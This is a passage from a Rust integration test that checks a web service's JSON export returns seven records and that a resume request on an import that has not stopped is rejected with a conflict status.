    let all: Value = serde_json::from_str(&export(&app, &api.key, "json").await).unwrap();
    assert_eq!(all.as_array().unwrap().len(), 7);
    let (s, _) = b.submit(&format!("{path}/resume"), &[]).await;
    assert_eq!(s, StatusCode::CONFLICT, "only a stopped import can be resumed");
}
